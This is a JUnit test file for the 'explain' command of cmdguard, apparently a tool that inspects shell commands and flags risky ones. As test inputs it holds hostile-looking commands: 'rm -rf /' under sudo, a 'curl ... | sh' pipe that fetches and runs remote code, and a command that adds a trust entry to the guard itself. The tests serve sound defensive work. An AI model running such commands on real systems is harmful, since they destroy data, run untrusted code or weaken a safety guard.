package dev.cmdguard.cli;

import static dev.cmdguard.cli.Cli.cli;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * End-to-end runs of {@code cmdguard explain} through picocli. They assert only what holds whatever
 * the unwrapper finds; the rendering of invocations is tested with hand-built results in {@link
 * ExplainTextTest} and {@link ExplainJsonTest}.
 */
class ExplainCommandTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  @Test
  void explainsAScript() {
    Cli.Result r = cli().run("explain", "-c", "sudo bash -c \"rm -rf /\"");
    assertThat(r.exit()).isZero();
    assertThat(r.err()).isEmpty();
    assertThat(r.out())
        .contains("command  sudo bash -c \"rm -rf /\"")
        .contains("cwd      /home/dev/project")
        .contains("user dev");
  }

  @Test
  void jsonHasEveryTopLevelField() throws Exception {
    Cli.Result r = cli().run("explain", "--json", "-c", "curl -s https://x.example | sh");
    assertThat(r.exit()).isZero();
    JsonNode doc = JSON.readTree(r.out());
    assertThat(doc.get("command").asText()).isEqualTo("curl -s https://x.example | sh");
    assertThat(doc.get("argv").isNull()).isTrue();
    assertThat(doc.get("cwd").asText()).isEqualTo("/home/dev/project");
    assertThat(doc.get("home").asText()).isEqualTo("/home/dev");
    assertThat(doc.get("user").asText()).isEqualTo("dev");
    for (String array : List.of("invocations", "findings", "markers", "syntaxErrors")) {
      assertThat(doc.get(array).isArray()).as(array).isTrue();
    }
  }

  @Test
  void findingsNameTheirInvocation() throws Exception {
    String script = "echo hi; sudo bash -c 'cmdguard trust add x'";
    Cli.Result text = cli().run("explain", "-c", script);
    assertThat(text.exit()).isZero();
    assertThat(text.out())
        .contains("\nfindings\n#4 cmdguard trust add x  → GUARD_SELF_MODIFY (high): ")
        .containsPattern("4 invocations, \\d+ findings?, ");
    JsonNode doc = JSON.readTree(cli().run("explain", "--json", "-c", script).out());
    JsonNode finding = doc.get("findings").get(0);
    assertThat(finding.get("code").asText()).isEqualTo("GUARD_SELF_MODIFY");
    assertThat(finding.get("invocationIndex").asInt()).isEqualTo(3);
    assertThat(doc.at("/invocations/3/program").asText()).isEqualTo("cmdguard");
  }

  @Test
  void argvAfterDoubleDashIsNotParsedAsOptions() throws Exception {
    Cli.Result r = cli().run("explain", "--json", "--", "rm", "-rf", "--json", "a b");
    assertThat(r.exit()).isZero();
    JsonNode doc = JSON.readTree(r.out());
    assertThat(doc.get("command").asText()).isEqualTo("rm -rf --json 'a b'");
    assertThat(doc.get("argv")).hasSize(4);
  }

  @Test
  void atFileArgumentsAreDataNotOptionFiles(@TempDir Path dir) throws Exception {
    Files.writeString(dir.resolve("data.json"), "--json");
    Cli.Result r = cli().in(dir).run("explain", "--", "curl", "-d", "@data.json", "x.example");
    assertThat(r.exit()).isZero();
    assertThat(r.out()).contains("curl -d @data.json x.example");
  }

  @Test
  void optionsShapeTheContext() throws Exception {
    Cli.Result r =
        cli()
            .run(
                "explain",
                "--json",
                "--cwd",
                "sub/../tmp",
                "--home",
                "/h",
                "--user",
                "u",
                "-c",
                "ls");
    JsonNode doc = JSON.readTree(r.out());
    assertThat(doc.get("cwd").asText()).isEqualTo("/home/dev/project/tmp");
    assertThat(doc.get("home").asText()).isEqualTo("/h");
    assertThat(doc.get("user").asText()).isEqualTo("u");
  }

  @Test
  void readsAScriptFileAndStandardInput(@TempDir Path dir) throws Exception {
    Files.writeString(dir.resolve("s.sh"), "echo héllo\nls\n", StandardCharsets.UTF_8);
    Cli.Result file = cli().in(dir).run("explain", "--json", "-f", "s.sh");
    assertThat(JSON.readTree(file.out()).get("command").asText()).isEqualTo("echo héllo\nls\n");
    Cli.Result stdin =
        cli().stdin("ls -la".getBytes(StandardCharsets.UTF_8)).run("explain", "-f", "-");
    assertThat(stdin.exit()).isZero();
    assertThat(stdin.out()).contains("command  ls -la");
  }

  @ParameterizedTest(name = "terminal={0} NO_COLOR={1} TERM={2} --color={3} -> colours={4}")
  @CsvSource({
    "false, '',  xterm, auto,   false",
    "true,  '',  xterm, auto,   true",
    "true,  1,   xterm, auto,   false",
    "true,  '',  dumb,  auto,   false",
    "false, '',  xterm, always, true",
    "true,  1,   xterm, always, true",
    "true,  '',  xterm, never,  false",
    "false, '',  xterm, ALWAYS, true",
  })
  void coloursOnlyWhereWanted(
      boolean terminal, String noColor, String term, String mode, boolean colours) {
    Cli.Result r =
        cli()
            .terminal(terminal)
            .env("NO_COLOR", noColor)
            .env("TERM", term)
            .run("explain", "--color=" + mode, "-c", "ls");
    assertThat(r.exit()).isZero();
    assertThat(r.out().contains("\u001b[")).isEqualTo(colours);
  }

  @ParameterizedTest
  @ValueSource(strings = {"--help", "-h", "help", "explain --help", "explain -h", "help explain"})
  void helpWorksForEveryVerb(String args) {
    Cli.Result r = cli().run(args.split(" "));
    assertThat(r.exit()).isZero();
    assertThat(r.out()).contains("Usage: cmdguard").doesNotContain("\u001b[");
    assertThat(r.err()).isEmpty();
  }

  @Test
  void explainHelpTeachesTheThreeInputs() {
    assertThat(cli().run("explain", "--help").out())
        .contains("-c, --command=SCRIPT", "-f, --file=PATH", "ARGV", "--json", "Examples:");
  }

  @Test
  void versionNamesTheProject() {
    Cli.Result r = cli().run("--version");
    assertThat(r.exit()).isZero();
    assertThat(r.out()).startsWith("cmdguard ").contains("Java ");
  }

  @Test
  void anEmptyScriptIsShownAsEmpty() {
    Cli.Result r = cli().run("explain", "-c", "");
    assertThat(r.exit()).isZero();
    assertThat(r.out()).startsWith("command  ‹empty›\n");
  }

  @Test
  void noVerbIsAUsageError() {
    Cli.Result r = cli().run();
    assertThat(r.exit()).isEqualTo(ExitCodes.USAGE);
    assertThat(r.err()).contains("which verb?", "explain");
  }
}
